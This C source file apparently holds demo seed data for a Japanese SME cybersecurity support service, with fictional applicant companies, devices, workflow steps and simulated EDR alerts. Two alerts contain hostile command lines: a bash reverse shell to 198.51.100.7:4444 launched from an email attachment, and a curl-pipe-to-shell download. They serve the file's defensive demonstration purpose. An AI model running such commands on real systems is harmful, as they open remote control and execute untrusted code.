#include "centre/tour_cast.h"

/* clang-format off */
const char tour_answers[] =
	"company_kind=company\nprefecture=tokyo\npast_support=no\nsubsidy=no\n"
	"clause_a=yes\nclause_b=yes\nclause_c=yes\nclause_d=yes\nclause_e=yes\nclause_f=yes\n"
	"clause_g=yes\nprivacy=yes\nconditions=yes\ncourses=edr\n";

const struct tour_scene tour_way[] = {
	{ "accept_rules", BY_SECRETARIAT, 1, 14,
	  "channel=telephone\nperson=代表\nown_cost_told=yes\nnote=規定と自社負担の費用を説明し、了承を得ました。" },
	{ "expert_contact", BY_EXPERT, 4, 11,
	  "channel=telephone\nsecurity_state=ウイルス対策ソフトのみ。規程はまだありません。\n"
	  "first_date=DAY\nfirst_time=14:00\nform=visit" },
	{ "diagnosed", BY_EXPERT, 9, 16,
	  "network=光回線1本。ルーターの下にスイッチングHUBが1台。\nhub_port=yes\nexisting_utm=no\n"
	  "pcs=8\nos=Debian 12、Windows 11\nantivirus=yes\nexisting_edr=no\npolicy=none\nutm_possible=yes\nedr_possible=yes" },
	{ "decide", BY_SECRETARIAT, 11, 10, "courses=edr\nagreed=yes\nreason=希望どおり、EDR導入コースとします。" },
	{ "approve", BY_CITY, 13, 15, "note=確認しました。" },
};
const struct tour_scene tour_installed = { "installed", BY_CENTRE, 15, 13, "" };

static const struct tour_device aoba[] = {
	{ "aoba-keiri", "青葉 花", 0 },
	{ "aoba-jimu-1", "本田 聡", 0 },
	{ "aoba-jimu-2", "本田 聡", 0 },
	{ "aoba-hinshitsu", "林 真紀", 0 },
	{ "aoba-kojo", "大野 健", 5 },
	{ "aoba-shacho", "青葉 太一", 0 },
};
static const struct tour_device omori[] = {
	{ "omori-sekkei", "大森 精子", 0 },
	{ "omori-kojo-1", "木村 誠", 0 },
	{ "omori-kojo-2", "木村 誠", 0 },
};
static const struct tour_device shiraishi[] = {
	{ "shiraishi-uketsuke", "白石 薬子", 0 },
	{ "shiraishi-chozai", "川口 恵", 0 },
};

const struct tour_cast tour_cast[] = {
	{ .name = "あさひ文具店", .received_days_ago = 0,
	  .answers = "company=あさひ文具店\ncompany_kana=アサヒブングテン\npostal_code=111-0032\naddress=台東区浅草0-0-0\n"
		     "industry=retail\ncapital=3000000\nemployees=4\ncontact=朝日 文代\ntelephone=03-0000-0101\nmail=info@asahi.example" },
	{ .name = "川端鉄工所", .received_days_ago = 8,
	  .answers = "company=有限会社川端鉄工所\ncompany_kana=カワバタテッコウショ\npostal_code=144-0035\naddress=大田区南蒲田0-0-0\n"
		     "industry=manufacturing\ncapital=10000000\nemployees=18\ncontact=川端 鉄男\ntelephone=03-0000-0102\nmail=info@kawabata.example" },
	{ .name = "みなと青果", .received_days_ago = 2, .scenes = 1,
	  .answers = "company=株式会社みなと青果\ncompany_kana=ミナトセイカ\npostal_code=143-0001\naddress=大田区東海0-0-0\n"
		     "industry=wholesale\ncapital=20000000\nemployees=26\ncontact=湊 菜月\ntelephone=03-0000-0103\nmail=info@minato.example" },
	{ .name = "光陽印刷", .received_days_ago = 6, .scenes = 2,
	  .answers = "company=光陽印刷株式会社\ncompany_kana=コウヨウインサツ\npostal_code=112-0004\naddress=文京区後楽0-0-0\n"
		     "industry=manufacturing\ncapital=15000000\nemployees=22\ncontact=光井 陽子\ntelephone=03-0000-0104\nmail=info@kouyou.example" },
	{ .name = "さくら介護サービス", .received_days_ago = 11, .scenes = 3,
	  .answers = "company=合同会社さくら介護サービス\ncompany_kana=サクラカイゴサービス\npostal_code=166-0001\naddress=杉並区阿佐谷北0-0-0\n"
		     "industry=service\ncapital=5000000\nemployees=34\ncontact=佐倉 介\ntelephone=03-0000-0105\nmail=info@sakura.example" },
	{ .name = "東野運送", .received_days_ago = 12, .scenes = 4,
	  .answers = "company=東野運送株式会社\ncompany_kana=ヒガシノウンソウ\npostal_code=136-0075\naddress=江東区新砂0-0-0\n"
		     "industry=manufacturing\ncapital=30000000\nemployees=45\ncontact=東野 走\ntelephone=03-0000-0106\nmail=info@higashino.example" },
	{ .name = "若葉設計事務所", .received_days_ago = 16, .scenes = 5,
	  .answers = "company=株式会社若葉設計事務所\ncompany_kana=ワカバセッケイジムショ\npostal_code=151-0051\naddress=渋谷区千駄ヶ谷0-0-0\n"
		     "industry=service\ncapital=8000000\nemployees=9\ncontact=若葉 図子\ntelephone=03-0000-0107\nmail=info@wakaba.example" },
	{ .name = "見本商店", .role = TOUR_HOST, .received_days_ago = 20, .scenes = 5,
	  .answers = "company=株式会社見本商店\ncompany_kana=ミホンショウテン\npostal_code=160-0023\naddress=新宿区西新宿0-0-0\n"
		     "industry=retail\ncapital=10000000\nemployees=30\ncontact=店主 一郎\ntelephone=03-0000-0108\nmail=owner@shouten.example" },
	{ .name = "大森精密", .received_days_ago = 40, .scenes = 5, .device = omori, .devices = 3,
	  .answers = "company=株式会社大森精密\ncompany_kana=オオモリセイミツ\npostal_code=143-0016\naddress=大田区大森北0-0-0\n"
		     "industry=manufacturing\ncapital=12000000\nemployees=28\ncontact=大森 精子\ntelephone=03-0000-0109\nmail=info@omori.example" },
	{ .name = "青葉食品", .role = TOUR_SHOWN, .received_days_ago = 85, .scenes = 5, .device = aoba, .devices = 6,
	  .answers = "company=株式会社青葉食品\ncompany_kana=アオバショクヒン\npostal_code=124-0006\naddress=葛飾区堀切0-0-0\n"
		     "industry=manufacturing\ncapital=20000000\nemployees=20\ncontact=青葉 太一\ntelephone=03-0000-0110\nmail=owner@aoba.example" },
	{ .name = "白石薬局", .received_days_ago = 125, .scenes = 5, .device = shiraishi, .devices = 2,
	  .answers = "company=有限会社白石薬局\ncompany_kana=シライシヤッキョク\npostal_code=176-0012\naddress=練馬区豊玉北0-0-0\n"
		     "industry=retail\ncapital=3000000\nemployees=7\ncontact=白石 薬子\ntelephone=03-0000-0111\nmail=info@shiraishi.example" },
	{ .name = "梅田商会", .received_days_ago = 30, .scenes = 1,
	  .ending = { "withdraw", BY_SECRETARIAT, 5, 15, "reason=別の製品を導入することになったため、とのお申し出。" },
	  .answers = "company=梅田商会株式会社\ncompany_kana=ウメダショウカイ\npostal_code=101-0021\naddress=千代田区外神田0-0-0\n"
		     "industry=wholesale\ncapital=9000000\nemployees=12\ncontact=梅田 商\ntelephone=03-0000-0112\nmail=info@umeda.example" },
	{ .name = "高輪エステート", .received_days_ago = 26,
	  .ending = { "refuse", BY_SECRETARIAT, 3, 11, "reason=確認の結果、主たる事業所が都外にあることが分かったため。" },
	  .answers = "company=高輪エステート株式会社\ncompany_kana=タカナワエステート\npostal_code=108-0074\naddress=港区高輪0-0-0\n"
		     "industry=service\ncapital=30000000\nemployees=15\ncontact=高輪 地\ntelephone=03-0000-0113\nmail=info@takanawa.example" },
};
const size_t tour_cast_count = sizeof tour_cast / sizeof *tour_cast;

#define GUID(number) "{00000000-0000-4000-8000-0000000000" number "}"
#define PROCESS(number, parent)                                                                    \
	"\"ProcessGuid\":\"" GUID(number) "\",\"ParentProcessGuid\":\"" GUID(parent) "\""

const struct tour_attack tour_attacks[] = {
	{ "aoba-jimu-1", 52, 11, "process_creation",
	  PROCESS("13", "12") ",\"ProcessId\":4130,\"Image\":\"/usr/bin/bash\","
	  "\"CommandLine\":\"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\","
	  "\"ParentImage\":\"/usr/bin/dash\",\"User\":\"honda\"",
	  { PROCESS("11", "10") ",\"ProcessId\":3988,\"Image\":\"/usr/lib/thunderbird/thunderbird\","
	    "\"CommandLine\":\"thunderbird\",\"ParentImage\":\"/usr/bin/gnome-shell\",\"User\":\"honda\"",
	    PROCESS("12", "11") ",\"ProcessId\":4127,\"Image\":\"/usr/bin/dash\",\"CommandLine\":\"sh /tmp/invoice.pdf.sh\","
	    "\"ParentImage\":\"/usr/lib/thunderbird/thunderbird\",\"User\":\"honda\"" },
	  "外部から遠隔操作するための接続が作られていました。社内の作業では行わない操作です。",
	  "状況を説明し、端末の隔離についてご了承をいただきました。添付ファイルを開いた心当たりがあるとのこと。",
	  "事務用パソコン（aoba-jimu-1）で、メールの添付ファイルをきっかけに、外部から操作するための接続が作られました。"
	  "お電話でご了承をいただいて端末をネットワークから切り離し、接続を切り、残っていたプログラムを取り除きました。"
	  "ほかの端末への広がりと、情報が持ち出された跡は見つかりませんでした。"
	  "パスワードの変更と、心当たりのない添付ファイルを開かない運用をお願いしました。" },
	{ "aoba-hinshitsu", 30, 16, "file_event",
	  "\"ProcessGuid\":\"" GUID("22") "\",\"ProcessId\":2217,\"Image\":\"/usr/bin/tee\","
	  "\"TargetFilename\":\"/etc/cron.d/backup\",\"User\":\"root\"",
	  { PROCESS("21", "20") ",\"ProcessId\":2209,\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"-bash\","
	    "\"ParentImage\":\"/usr/sbin/sshd\",\"User\":\"hoshu\"",
	    PROCESS("22", "21") ",\"ProcessId\":2217,\"Image\":\"/usr/bin/tee\",\"CommandLine\":\"tee /etc/cron.d/backup\","
	    "\"ParentImage\":\"/usr/bin/bash\",\"User\":\"root\"" },
	  NULL, "保守会社の作業であることを確認しました。",
	  "品質管理のパソコンで定期実行の設定が変わりましたが、お電話で、保守会社による正規の作業と確認できました。対応は不要です。" },
	{ "aoba-kojo", 0, 7, "process_creation",
	  PROCESS("33", "32") ",\"ProcessId\":5521,\"Image\":\"/usr/bin/dash\","
	  "\"CommandLine\":\"sh -c curl -s http://203.0.113.9/x.sh | sh\","
	  "\"ParentImage\":\"/usr/bin/bash\",\"User\":\"ono\"",
	  { PROCESS("31", "30") ",\"ProcessId\":5310,\"Image\":\"/usr/bin/gnome-terminal\",\"CommandLine\":\"gnome-terminal\","
	    "\"ParentImage\":\"/usr/bin/gnome-shell\",\"User\":\"ono\"",
	    PROCESS("32", "31") ",\"ProcessId\":5318,\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash\","
	    "\"ParentImage\":\"/usr/bin/gnome-terminal\",\"User\":\"ono\"" },
	  NULL, NULL, NULL },
};
const size_t tour_attack_count = sizeof tour_attacks / sizeof *tour_attacks;
/* clang-format on */
